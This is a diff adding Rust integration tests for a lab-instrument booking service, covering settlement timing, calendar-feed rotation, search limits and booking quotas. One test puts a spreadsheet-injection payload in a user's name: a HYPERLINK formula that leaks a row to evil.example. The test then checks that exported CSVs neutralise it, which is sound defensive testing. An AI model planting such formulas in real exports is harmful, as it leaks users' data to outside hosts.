@@ -24,9 +24,26 @@ async fn notifications(c: &reqwest::Client) -> Value {
     get_json(c, "/api/me/notifications").await
 }
 
-/// `POST /api/bookings/{bid}/complete` as `c`: staff settle a booking with it,
-/// and others are refused.
+/// The header of the local stacks' test clock: the Worker judges a settlement
+/// as if it were sent at this RFC 3339 time (`cargo xtask` sets `TEST_CLOCK=1`
+/// on the stacks it starts; production has no such variable).
+const TEST_NOW: &str = "x-commons-test-now";
+
+/// A time after every booking a test can make (the horizon is 60 days), for
+/// settling bookings "after the experiment ran".
+fn after_the_experiments() -> String {
+    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs() as i64;
+    commons_domain::common::locale::rfc3339_utc(now + 90 * 86_400)
+}
+
+/// `POST /api/bookings/{bid}/complete` as `c`, once the experiment has run:
+/// staff settle a booking with it, and others are refused.
 fn complete(c: &reqwest::Client, bid: &str, body: Value) -> reqwest::RequestBuilder {
+    complete_now(c, bid, body).header(TEST_NOW, after_the_experiments())
+}
+
+/// `POST /api/bookings/{bid}/complete` as `c`, at the real time.
+fn complete_now(c: &reqwest::Client, bid: &str, body: Value) -> reqwest::RequestBuilder {
     c.post(url(&format!("/api/bookings/{bid}/complete"))).json(&body)
 }
 
@@ -458,4 +475,326 @@ async fn cancelling_inside_the_deadline_is_for_staff_only() {
     staff.patch(url(&format!("/api/instruments/{id}"))).json(&json!({"cancel_hours": 24})).send().await.unwrap();
     let outside = booking_id(&me, &booking_req(id, &weekday_slot(20, 16, 1), "cash")).await;
     assert_eq!(me.post(url(&format!("/api/bookings/{outside}/cancel"))).send().await.unwrap().status(), 200);
+}
+
+// Hardening (issue 12). Each test below owns its instruments: the first
+// bookable instrument of a centre no other test of this file books at
+// (ntou-ic, ntnu-ic, nycu-ic, ntu-ic), so the exact counts hold.
+
+/// Every cell of a CSV answer, parsed as a spreadsheet would read the file.
+async fn csv_cells(r: reqwest::Response) -> Vec<Vec<String>> {
+    assert_eq!(r.status(), 200);
+    assert!(r.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
+    let text = r.text().await.unwrap();
+    let text = text.trim_start_matches('\u{feff}');
+    let mut rd = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
+    rd.records().map(|x| x.unwrap().iter().map(str::to_string).collect()).collect()
+}
+
+#[tokio::test]
+async fn report_csvs_never_hand_a_spreadsheet_a_formula() {
+    let id = free_instrument_at("ntou-ic").await;
+    let (staff, _) = user_with_role("csv-staff", "facility_staff", Some("ntou-ic")).await;
+    let (pi, _) = pi_with_quota("csv-pi", 1_000_000).await;
+    let (member, member_user) = signed_in("csv-member").await;
+    // Names a spreadsheet would run: a live link that leaks the row, and the other formula starts.
+    let payload = "=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")";
+    let pi_name = "+SUM(1,1)";
+    let rename =
+        |c: &reqwest::Client, name: &str| c.patch(url("/api/auth/me")).json(&json!({ "display_name": name })).send();
+    assert_eq!(rename(&member, payload).await.unwrap().status(), 200);
+    assert_eq!(rename(&pi, pi_name).await.unwrap().status(), 200);
+    let r = pi.post(url("/api/me/group/members")).json(&json!({"email": member_user["email"]})).send().await.unwrap();
+    assert_eq!(r.status(), 204);
+    let pi_id = get_json(&pi, "/api/auth/me").await["user"]["id"].as_i64().unwrap();
+    let cash = booking_id(&member, &booking_req(id, &weekday_slot(12, 9, 1), "cash")).await;
+    let mut quota = booking_req(id, &weekday_slot(12, 11, 1), "quota");
+    quota["pi_user_id"] = json!(pi_id);
+    let quota = booking_id(&member, &quota).await;
+    for bid in [&cash, &quota] {
+        assert_eq!(complete(&staff, bid, json!({})).send().await.unwrap().status(), 200);
+    }
+    let (from, to) = (weekday_slot(12, 0, 0).0, weekday_slot(12, 23, 0).0);
+    let mut named = 0;
+    for def in commons_domain::booking::reports::REPORTS {
+        for lang in ["zh-TW", "en"] {
+            let path = format!("/api/reports/{}?center=ntou-ic&from={from}&to={to}&format=csv&lang={lang}", def.kind);
+            let cells = csv_cells(staff.get(url(&path)).send().await.unwrap()).await;
+            assert!(cells.len() >= 2, "{}: a header and a totals row at least", def.kind);
+            for cell in cells.iter().flatten() {
+                assert!(
+                    !commons_domain::common::csv::is_formula_like(cell),
+                    "{} ({lang}) hands a spreadsheet the formula {cell:?}",
+                    def.kind
+                );
+            }
+            // The names are still there to read, behind the quote that makes them text.
+            let shown = |name: &str| cells.iter().flatten().any(|c| c.trim_start_matches('\'') == name);
+            if shown(payload) {
+                named += 1;
+            }
+            if def.kind == "instrument_service_details" || def.kind == "pi_cash_payments" {
+                assert!(shown(pi_name), "{} shows the PI", def.kind);
+            }
+        }
+    }
+    // Details, receipts, the PI's cash list and the booker list name the booker, in both languages.
+    assert!(named >= 8, "the booker's name was readable in {named} reports");
+}
+
+#[tokio::test]
+async fn an_experiment_is_settled_only_once_it_has_started() {
+    let id = free_instrument_at("ntnu-ic").await;
+    let (staff, _) = user_with_role("early-staff", "facility_staff", Some("ntnu-ic")).await;
+    let (me, _) = signed_in("early-booker").await;
+    // About forty days ahead.
+    let slot = weekday_slot(28, 10, 1);
+    let bid = booking_id(&me, &req(id, &slot, "cash")).await;
+    let e = expect_refusal(complete_now(&staff, &bid, json!({})), 409, "conflict").await;
+    assert!(e["message"].as_str().unwrap().contains("not started"), "{e}");
+    let e = expect_refusal(staff.post(url(&format!("/api/bookings/{bid}/no-show"))), 409, "conflict").await;
+    assert!(e["message"].as_str().unwrap().contains("not started"), "{e}");
+    let b = get_json(&me, &format!("/api/bookings/{bid}")).await;
+    assert_eq!(b["booking"]["status"], "confirmed", "{b}");
+    assert_eq!(b["booking"]["actual_cost"], Value::Null, "{b}");
+    let (from, to) = (weekday_slot(28, 0, 0).0, weekday_slot(28, 23, 0).0);
+    let receipts =
+        get_json(&staff, &format!("/api/reports/cash_payment_details?center=ntnu-ic&from={from}&to={to}")).await;
+    assert_eq!(receipts["rows"], json!([]), "no receipt for an experiment that has not happened");
+
+    // Once it has started, the same request settles it, with a receipt.
+    let started = {
+        let s = commons_domain::common::locale::parse_rfc3339(&slot.0).unwrap();
+        commons_domain::common::locale::rfc3339_utc(s + 1800)
+    };
+    let r = complete_now(&staff, &bid, json!({})).header(TEST_NOW, &started).send().await.unwrap();
+    assert_eq!(r.status(), 200);
+    let done: Value = r.json().await.unwrap();
+    assert_eq!(done["booking"]["status"], "completed");
+    assert!(done["receipt"]["number"].as_i64().is_some(), "{done}");
+    // A no-show, too, is recorded only from the start on.
+    let other = booking_id(&me, &req(id, &weekday_slot(28, 13, 1), "cash")).await;
+    let no_show = || staff.post(url(&format!("/api/bookings/{other}/no-show")));
+    let at = |h: i64| {
+        let s = commons_domain::common::locale::parse_rfc3339(&weekday_slot(28, 13, 1).0).unwrap();
+        commons_domain::common::locale::rfc3339_utc(s + h)
+    };
+    expect_refusal(no_show().header(TEST_NOW, at(-60)), 409, "conflict").await;
+    assert_eq!(no_show().header(TEST_NOW, at(0)).send().await.unwrap().status(), 200);
+}
+
+#[tokio::test]
+async fn rotating_the_calendar_feed_retires_the_old_urls() {
+    let id = free_instrument_at("nycu-ic").await;
+    let (me, _) = signed_in("rotate").await;
+    assert_eq!(book(&me, req(id, &weekday_slot(14, 10, 1), "cash")).await.status(), 201);
+    let old: Value = get_json(&me, "/api/me/calendar-feed").await;
+    let old_bookings = old["bookings_url"].as_str().unwrap().to_string();
+    let old_instrument = old["instrument_url_template"].as_str().unwrap().replace("{id}", &id.to_string());
+    assert_eq!(reqwest::get(&old_bookings).await.unwrap().status(), 200);
+    assert_eq!(reqwest::get(&old_instrument).await.unwrap().status(), 200);
+
+    let r = me.post(url("/api/me/calendar-feed/rotate")).send().await.unwrap();
+    assert_eq!(r.status(), 200);
+    let new: Value = r.json().await.unwrap();
+    let new_bookings = new["bookings_url"].as_str().unwrap().to_string();
+    assert_ne!(new_bookings, old_bookings);
+    // The old URLs are dead at once; the new ones work, and reading the feed again keeps them.
+    assert_eq!(reqwest::get(&old_bookings).await.unwrap().status(), 404);
+    assert_eq!(reqwest::get(&old_instrument).await.unwrap().status(), 404);
+    let text = reqwest::get(&new_bookings).await.unwrap().text().await.unwrap();
+    assert!(text.starts_with("BEGIN:VCALENDAR"), "{text}");
+    let inst = new["instrument_url_template"].as_str().unwrap().replace("{id}", &id.to_string());
+    assert_eq!(reqwest::get(&inst).await.unwrap().status(), 200);
+    assert_eq!(get_json(&me, "/api/me/calendar-feed").await, new);
+    // Signed out there is nothing to rotate.
+    expect_refusal(client().post(url("/api/me/calendar-feed/rotate")), 401, "unauthorized").await;
+}
+
+#[tokio::test]
+async fn search_input_past_d1s_limits_is_answered_not_crashed() {
+    // A long query of several words searches by every word (each within D1's 50-byte LIKE limit).
+    let q = "場發射 掃描式 電子顯微鏡 分析儀器 元素分析";
+    assert!(q.len() > 48);
+    let r = client().get(url("/api/instruments")).query(&[("q", q)]).send().await.unwrap();
+    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
+    let v: Value = get_json(&client(), &format!("/api/instruments?q={}&per_page=100", "顯微%20儀")).await;
+    let hits = v["instruments"].as_array().cloned().unwrap_or_default();
+    assert!(!hits.is_empty());
+    for h in &hits {
+        let text = format!("{}{}{}{}", h["name_zh"], h["name_en"], h["category"], h["description"]);
+        assert!(text.contains("顯微") && text.contains('儀'), "every word matches: {text}");
+    }
+    // One word longer than a LIKE pattern may be, too many words, or too long a query: 422, saying why.
+    let refused = [
+        "顯".repeat(17),
+        "a".repeat(49),
+        (1..=9).map(|n| format!("w{n}")).collect::<Vec<_>>().join(" "),
+        "顯 ".repeat(60),
+    ];
+    for q in refused {
+        let e = expect_refusal(client().get(url("/api/instruments")).query(&[("q", &q)]), 422, "invalid").await;
+        assert!(e["message"].as_str().unwrap().starts_with("q:"), "{e}");
+    }
+    for field in ["center", "category"] {
+        let long = "x".repeat(200);
+        expect_refusal(client().get(url("/api/instruments")).query(&[(field, &long)]), 422, "invalid").await;
+    }
+}
+
+#[tokio::test]
+async fn favourites_and_their_free_check_stay_within_d1s_budget() {
+    let inst = instruments_where(false, false).await;
+    let (me, _) = signed_in("many-favs").await;
+    // commons_domain::booking::MAX_FAVORITES.
+    let max = 20;
+    for i in &inst[..max] {
+        let r = me.put(url(&format!("/api/me/favorites/{}", i["id"]))).json(&json!({"substitutes": []})).send();
+        assert_eq!(r.await.unwrap().status(), 204);
+    }
+    // One more is refused; changing an existing one is not.
+    let extra = &inst[max]["id"];
+    let e = expect_refusal(me.put(url(&format!("/api/me/favorites/{extra}"))).json(&json!({})), 409, "conflict").await;
+    assert!(e["message"].as_str().unwrap().contains(&max.to_string()), "{e}");
+    let subs: Vec<&Value> = inst[max..max + 5].iter().map(|i| &i["id"]).collect();
+    let first = &inst[0]["id"];
+    let r = me.put(url(&format!("/api/me/favorites/{first}"))).json(&json!({ "substitutes": subs })).send();
+    assert_eq!(r.await.unwrap().status(), 204);
+    // Every favourite with its substitutes and whether each is free, in one answer.
+    let slot = weekday_slot(15, 10, 1);
+    let v = get_json(&me, &format!("/api/me/favorites?start={}&end={}", slot.0, slot.1)).await;
+    let favs = v["favorites"].as_array().cloned().unwrap_or_default();
+    assert_eq!(favs.len(), max, "{v}");
+    assert_eq!(favs[0]["instrument"]["id"], *first);
+    assert_eq!(favs[0]["substitutes"].as_array().map(Vec::len), Some(5));
+    assert!(favs.iter().all(|f| f["free"].is_boolean()));
+    let q: Value = get_json(&me, "/api/me/quick-instruments").await;
+    assert_eq!(q["instruments"].as_array().map(Vec::len), Some(max));
+    // The free check covers a booking's day, not a season.
+    let (s, e) = (weekday_slot(2, 9, 0).0, weekday_slot(40, 9, 0).0);
+    expect_refusal(me.get(url(&format!("/api/me/favorites?start={s}&end={e}"))), 422, "invalid").await;
+}
+
+#[tokio::test]
+async fn only_staff_of_the_centre_record_training_whatever_they_send() {
+    let inst = instruments_where(false, true).await;
+    let id = inst[0]["id"].as_i64().unwrap();
+    let (member, _) = signed_in("train-member").await;
+    // A malformed or empty body from someone who may not record training is still a 403.
+    for body in [json!({}), json!({"user_id": "x"})] {
+        expect_refusal(member.post(url(&format!("/api/instruments/{id}/trainings"))).json(&body), 403, "forbidden")
+            .await;
+    }
+    expect_refusal(
+        client().post(url(&format!("/api/instruments/{id}/trainings"))).json(&json!({})),
+        401,
+        "unauthorized",
+    )
+    .await;
+}
+
+/// A weekly series of one-hour bookings from the `day`th weekday at `hour`.
+fn series(instrument: i64, day: i64, hour: i64, weeks: u32) -> Value {
+    let mut r = req(instrument, &weekday_slot(day, hour, 1), "cash");
+    r["repeat_weeks"] = json!(weeks);
+    r
+}
+
+/// How many of `c`'s bookings hold their slot.
+async fn held(c: &reqwest::Client) -> usize {
+    let mine = get_json(c, "/api/me/bookings?per_page=100").await;
+    mine["bookings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|b| b["status"] == "confirmed" || b["status"] == "pending")
+        .count()
+}
+
+#[tokio::test]
+async fn one_member_cannot_hold_every_free_slot() {
+    let at: Vec<i64> = instruments_where(false, false)
+        .await
+        .iter()
+        .filter(|i| i["center_id"] == "ntu-ic")
+        .filter_map(|i| i["id"].as_i64())
+        .collect();
+    assert!(at.len() >= 5, "free instruments at ntu-ic: {at:?}");
+    let (a, _) = signed_in("hoarder").await;
+    // Ten future bookings of one instrument by default: eight weeks fit, three more weeks do not,
+    // and the refused series leaves nothing behind.
+    assert_eq!(book(&a, series(at[0], 1, 9, 8)).await.status(), 201);
+    let e = expect_error(book(&a, series(at[0], 1, 11, 3)).await, 409, "conflict").await;
+    assert!(e["message"].as_str().unwrap().contains("instrument"), "{e}");
+    assert_eq!(held(&a).await, 8, "a series over the limit is refused whole");
+    assert_eq!(book(&a, series(at[0], 1, 11, 2)).await.status(), 201);
+    expect_error(book(&a, req(at[0], &weekday_slot(2, 14, 1), "cash")).await, 409, "conflict").await;
+    // Another instrument of the centre still books.
+    assert_eq!(book(&a, req(at[1], &weekday_slot(2, 14, 1), "cash")).await.status(), 201);
+
+    // Staff of the centre set the instrument's limits; nobody else may.
+    let (staff, _) = user_with_role("limit-staff", "facility_staff", Some("ntu-ic")).await;
+    let patch = |c: &reqwest::Client, id: i64, body: Value| c.patch(url(&format!("/api/instruments/{id}"))).json(&body);
+    expect_refusal(patch(&a, at[0], json!({"max_future_bookings": 11})), 403, "forbidden").await;
+    let v = send_json(patch(&staff, at[0], json!({"max_future_bookings": 11}))).await;
+    assert_eq!(v["instrument"]["limits"]["max_future_bookings"], 11, "{v}");
+    for bad in [json!({"max_future_bookings": 0}), json!({"max_future_hours": 0}), json!({"max_future_hours": 100_000})]
+    {
+        expect_refusal(patch(&staff, at[0], bad), 422, "invalid").await;
+    }
+    assert_eq!(book(&a, req(at[0], &weekday_slot(2, 14, 1), "cash")).await.status(), 201);
+    // Hours count as well as bookings.
+    let (b, _) = signed_in("hours").await;
+    send_json(patch(&staff, at[2], json!({"max_future_hours": 5}))).await;
+    assert_eq!(book(&b, req(at[2], &weekday_slot(3, 9, 4), "cash")).await.status(), 201);
+    expect_error(book(&b, req(at[2], &weekday_slot(3, 13, 2), "cash")).await, 409, "conflict").await;
+    assert_eq!(book(&b, req(at[2], &weekday_slot(3, 13, 1), "cash")).await.status(), 201);
+
+    // Parallel requests cannot get past the limit: the database decides each one.
+    let (c, _) = signed_in("racing-hoarder").await;
+    let slots: Vec<(String, String)> =
+        (4..8).flat_map(|day| [9, 11, 13, 15].map(|hour| weekday_slot(day, hour, 1))).collect();
+    let results = futures_util::future::join_all(slots.iter().map(|s| book(&c, req(at[4], s, "cash")))).await;
+    let mut codes: Vec<u16> = results.iter().map(|r| r.status().as_u16()).collect();
+    codes.sort();
+    assert_eq!(codes, [vec![201; 10], vec![409; 6]].concat());
+    assert_eq!(held(&c).await, 10);
+
+    // The centre's limit, over all its instruments: staff set it; the others are refused.
+    let limits = |c: &reqwest::Client, center: &str, body: Value| {
+        c.put(url(&format!("/api/centers/{center}/booking-limits"))).json(&body)
+    };
+    let low = json!({"max_future_bookings": 14, "max_future_hours": 90});
+    expect_refusal(limits(&a, "ntu-ic", low.clone()), 403, "forbidden").await;
+    let (other, _) = user_with_role("limit-other", "facility_staff", Some("nthu-ic")).await;
+    expect_refusal(limits(&other, "ntu-ic", low.clone()), 403, "forbidden").await;
+    expect_refusal(limits(&client(), "ntu-ic", low.clone()), 401, "unauthorized").await;
+    expect_refusal(limits(&admin().await, "no-such-centre", low.clone()), 404, "not_found").await;
+    expect_refusal(limits(&staff, "ntu-ic", json!({"max_future_bookings": 0, "max_future_hours": 90})), 422, "invalid")
+        .await;
+    let v = send_json(limits(&staff, "ntu-ic", low)).await;
+    assert_eq!(v["limits"]["max_future_bookings"], 14, "{v}");
+    // `a` holds 12 at the centre: two more, then the centre says no.
+    assert_eq!(book(&a, req(at[3], &weekday_slot(4, 9, 1), "cash")).await.status(), 201);
+    assert_eq!(book(&a, req(at[3], &weekday_slot(4, 11, 1), "cash")).await.status(), 201);
+    let e = expect_error(book(&a, req(at[3], &weekday_slot(4, 13, 1), "cash")).await, 409, "conflict").await;
+    assert!(e["message"].as_str().unwrap().contains("centre"), "{e}");
+    let inst = get_json(&client(), &format!("/api/instruments/{}", at[3])).await;
+    assert_eq!(inst["instrument"]["center_limits"]["max_future_bookings"], 14, "{inst}");
+    // Cancelling one frees room for another.
+    let mine = get_json(&a, "/api/me/bookings?per_page=100").await;
+    let one = mine["bookings"][0]["id"].as_str().unwrap().to_string();
+    assert_eq!(a.post(url(&format!("/api/bookings/{one}/cancel"))).send().await.unwrap().status(), 200);
+    assert_eq!(book(&a, req(at[3], &weekday_slot(4, 13, 1), "cash")).await.status(), 201);
+    // Back to the defaults for the other tests.
+    let v = send_json(limits(&staff, "ntu-ic", json!({"max_future_bookings": 30, "max_future_hours": 90}))).await;
+    assert_eq!(v["limits"]["max_future_hours"], 90);
+    assert_invariants_hold().await;
+}
+
+/// The admin's invariant check still finds nothing wrong.
+async fn assert_invariants_hold() {
+    let v = get_json(&admin().await, "/api/admin/invariants").await;
+    assert_eq!(v["overlapping_active_bookings"], 0, "{v}");
+    assert_eq!(v["quota_ledger_mismatches"], 0, "{v}");
 }
